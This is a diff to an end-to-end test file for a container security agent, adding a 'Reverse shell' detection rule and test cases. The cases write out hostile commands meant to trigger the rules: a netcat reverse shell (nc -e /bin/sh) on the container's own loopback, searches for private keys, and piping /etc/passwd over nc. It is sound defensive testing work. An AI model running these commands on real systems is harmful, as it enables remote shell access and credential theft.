@@ -11,7 +11,7 @@ import { waitUntil } from '../support/wait.js';
 // The default rules about programs (issue 14, items 2 and acceptance 1), end to end: real
 // dockerd, kernel audit, the agent with its default rules. Each container's own command does
 // one thing once the agent watches it (it waits for /tmp/go): installs a package, copies a file
-// to another host, pipes a decoded payload into a shell, searches for private keys, has its
+// to another host, hands a shell to a network connection (nc -e), pipes a decoded payload into a shell, searches for private keys, has its
 // "web server" start a shell; an interactive shell comes through docker exec -t. The near
 // misses — an entrypoint script with a terminal and its subshells, decoding to a file, a shell
 // fed by echo, a search for logs, a worker starting a shell — raise none of these rules.
@@ -19,6 +19,7 @@ import { waitUntil } from '../support/wait.js';
 
 const IMAGE = 'bulwark-test/busybox:rules-processes';
 const RULES = new Set([
+  'Reverse shell',
   'Shell in container',
   'Package manager in container',
   'Remote copy tool in container',
@@ -65,10 +66,17 @@ const CASES: Case[] = [
   { name: 'keys', cmd: '/bin/find / -xdev -name id_rsa', rule: 'Credential search in container' },
   { name: 'keys-grep', cmd: 'grep -rl "PRIVATE KEY" /etc', rule: 'Credential search in container' },
   { name: 'webshell', cmd: 'nginx', rule: 'Shell spawned by a service' },
+  // the "attacker" listens on the container's own loopback (its network is none)
+  {
+    name: 'revshell',
+    cmd: '(echo id; sleep 2) | nc -l -p 4444 > /tmp/out & sleep 0.5; nc 127.0.0.1 4444 -e /bin/sh',
+    rule: 'Reverse shell',
+  },
   // near misses
   { name: 'entry-tty', cmd: 'sh -c "echo hi; sh -c id"; sed -n 1p /etc/passwd', tty: true },
   { name: 'decode-file', cmd: 'echo aGVsbG8K | base64 -d > /tmp/hello; base64 /tmp/hello | sh -c "cat > /tmp/x"' },
   { name: 'stdin-shell', cmd: 'echo id | sh' },
+  { name: 'nc-file', cmd: 'nc -l -p 4445 > /tmp/got & sleep 0.5; nc 127.0.0.1 4445 < /etc/passwd; sh -c id' },
   { name: 'logs', cmd: '/bin/find / -xdev -name "*.log"; grep -r root /etc/passwd' },
   { name: 'worker', cmd: 'worker' },
 ];
